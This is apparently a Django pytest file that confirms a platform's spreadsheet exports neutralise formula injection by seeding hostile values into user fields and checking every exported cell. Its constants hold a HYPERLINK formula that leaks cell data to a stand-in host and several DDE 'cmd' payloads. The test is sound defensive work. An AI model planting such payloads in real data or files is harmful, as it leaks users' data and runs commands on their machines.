"""No export of the platform carries a formula (issue 10 §4, security standard).

The exports are discovered, not listed: every URL pattern of the site is asked
for ``?export=xlsx`` by an account that sees everything, and every spreadsheet
that comes back is opened and checked cell by cell. Hostile values are seeded
first where a user can type them: a failed login's user name, a person's name,
a unit's name, a project's name, an alert's title. R-ORG-04 (login log, audit).
"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from postaward.core import audit
from postaward.core.exports import FORMULA_TRIGGERS, XLSX_CONTENT_TYPE
from postaward.testing_xlsx import has_hyperlinks, read_cells

EVIL_LINK = '=HYPERLINK("http://evil.example/?leak="&B3,"请点击核对")'
EVIL_PERSON = "=1+1"
EVIL_PROJECT = "+cmd|' /C calc'!A0"
EVIL_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_ALERT = "-2+3+cmd|' /C calc'!A0"

SRC = Path(__file__).resolve().parents[3]


def _walk(patterns: list, prefix: str = "") -> list[tuple[str, str, URLPattern]]:
    out: list[tuple[str, str, URLPattern]] = []
    for p in patterns:
        route = prefix + str(p.pattern)
        if isinstance(p, URLResolver):
            out.extend(_walk(p.url_patterns, route))
        elif isinstance(p, URLPattern):
            out.append((route, p.name or "", p))
    return out


_PARAM = re.compile(r"<(?:(\w+):)?(\w+)>")


def _concrete(route: str, values: dict[str, int]) -> str | None:
    """A path for a route: int parameters filled with a visible object's pk."""
    if route.startswith("^") or "(?P" in route:
        return None  # regex routes (static files, admin internals): not pages with exports

    def fill(m: re.Match) -> str:
        conv, name = m.group(1) or "str", m.group(2)
        if conv not in ("int", "id"):  # <id:…> is the bounded int of core.converters
            raise LookupError(name)
        return str(values.get(name, values["pk"]))

    try:
        return "/" + _PARAM.sub(fill, route)
    except LookupError:
        return None


@pytest.fixture
def hostile(district):
    from postaward.alerts import services as alert_services
    from postaward.alerts.indicators import Hit
    from postaward.orgs import services as org_services
    from postaward.orgs.models import Organisation, Person
    from postaward.projects.models import Project

    org_services.attempt_login(username=EVIL_LINK, password="x", ip="203.0.113.9")
    pm = district.users["pm_a"]
    Person.objects.filter(pk=pm.person_id).update(name=EVIL_PERSON)
    Organisation.objects.filter(pk=district.orgs["contractor_a"].pk).update(name=EVIL_ORG)
    school = district.projects["p_school"]
    Project.objects.filter(pk=school.pk).update(name=EVIL_PROJECT)
    audit.record(actor=district.actor("pm_a"), action="test.export", object_repr=EVIL_LINK)
    alert_services.record_hit(
        alert_services.indicator_for("attendance.absence_streak"),
        Hit(dedup_key="evil", title=EVIL_ALERT, facts={}, project_id=school.pk),
    )
    return district


def _exports(district) -> dict[str, bytes]:
    client = Client(raise_request_exception=False)
    client.force_login(district.users["office_admin"])
    values = {"pk": district.projects["p_school"].pk}
    found: dict[str, bytes] = {}
    for route, name, _p in _walk(get_resolver().url_patterns):
        if route.startswith(("api/", "django-admin/", "static/", "media/")):
            continue
        path = _concrete(route, values)
        if path is None:
            continue
        r = client.get(path, {"export": "xlsx"})
        if r.status_code == 200 and r.get("Content-Type", "").startswith(XLSX_CONTENT_TYPE):
            found[name or route] = r.content
    return found


def test_every_export_writes_text_never_a_formula(hostile):
    found = _exports(hostile)
    # The walk reaches the exports the platform has today (more are checked as they come).
    assert {
        "login_log",
        "audit_log",
        "organisation_list",
        "project_list",
        "alerts_query",
        "attendance_stats",
        "attendance_board",
    } <= set(found), sorted(found)
    seen: set[str] = set()
    for name, data in found.items():
        assert not has_hyperlinks(data), name
        for cell in read_cells(data):
            assert not cell.formula, (name, cell)
            if cell.type in ("s", "inlineStr", "str"):
                assert not cell.text.startswith(FORMULA_TRIGGERS), (name, cell)
                seen.add(cell.text)
    # The hostile values reached the files, as inert text.
    for evil in (EVIL_LINK, EVIL_PERSON, EVIL_PROJECT, EVIL_ORG, EVIL_ALERT):
        assert "'" + evil in seen, evil
    login = {c.text for c in read_cells(found["login_log"])}
    assert "'" + EVIL_LINK in login
    audit_texts = {c.text for c in read_cells(found["audit_log"])}
    assert "'" + EVIL_PERSON in audit_texts


def test_only_core_exports_writes_spreadsheets():
    """One export path: no other module imports a spreadsheet or CSV writer."""
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "postaward/core/exports.py" or "/tests/" in rel or "/migrations/" in rel:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            if any(n.split(".")[0] in ("xlsxwriter", "openpyxl", "xlwt") for n in names):
                offenders.append(rel)
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
                # The project import template: a fixed header line for uploads, no data.
                and rel != "postaward/projects/imports.py"
            ):
                offenders.append(f"{rel}:{node.lineno}")
    assert offenders == [], offenders
